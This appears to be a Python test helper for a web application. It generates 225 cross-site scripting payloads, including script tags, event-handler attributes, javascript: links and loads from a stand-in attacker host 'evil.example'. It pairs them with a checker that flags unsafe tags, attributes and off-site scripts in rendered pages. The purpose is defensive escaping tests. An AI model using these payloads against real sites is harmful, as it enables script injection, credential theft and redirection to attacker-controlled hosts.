"""Texts that would do something on a page that does not escape them: ways out of a context, times things that act."""

from __future__ import annotations

from itertools import product
from typing import Any

import lxml.html

WAYS_OUT = ("", '">', "'>", "-->", "</title>", "</textarea></select>", "</script>", "]]>", "</blockquote></p></main>")
ACTS = (
    "<script>alert({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<ScRiPt/x>alert({n})</ScRiPt>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x\tonerror\n=alert({n})//",
    "<svg/onload=alert({n})>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mtext></mtext><a xlink:href=javascript:alert({n})>x</a></math>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=data:text/html,{n}>",
    "<a href=javascript:alert({n})>click {n}</a>",
    "<a href='java\tscript:alert({n})'>click {n}</a>",
    "<form action=//evil.example/{n}><button>{n}</button></form>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>{n}</details>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style=position:fixed;inset:0>{n}</p>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<ins>forged {n}</ins><del>forged {n}</del>",
    "<video><source onerror=alert({n})></video>",
)
PAYLOADS = tuple(way + act.format(n=n) for n, (way, act) in enumerate(product(WAYS_OUT, ACTS)))
"""225 of them, each with its own number."""

_WORDS = """
html head meta title link body a header nav ul ol li form input button main h1 h2 h3 h4 h5 h6 p br strong em span div
section blockquote del ins table thead tbody tr th td code dl dt dd label select option details summary svg circle line
rect path g text script article aside small time mark figure figcaption footer caption col colgroup pre hr fieldset
legend optgroup kbd abbr desc polyline datalist
"""
_ALLOWED = frozenset(_WORDS.split())


def faults(html: str) -> list[str]:
    """What a page has that no page of ours may have; scripts and sheets of our own are no fault."""
    tree: Any = lxml.html.document_fromstring(html)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            found.append("a comment")
            continue
        if element.tag not in _ALLOWED:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            address = "".join(value.split()).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                found.append(f"{element.tag} {name}")
            elif name in ("href", "src", "action", "data", "xlink:href") and address.startswith(
                ("javascript:", "data:", "//", "vbscript:")
            ):
                found.append(f"{element.tag} {name}={value}")
        if element.tag in ("script", "link") and not (element.get("src") or element.get("href", "")).startswith(
            "/static/"
        ):
            found.append(f"<{element.tag}> from elsewhere")
    return found
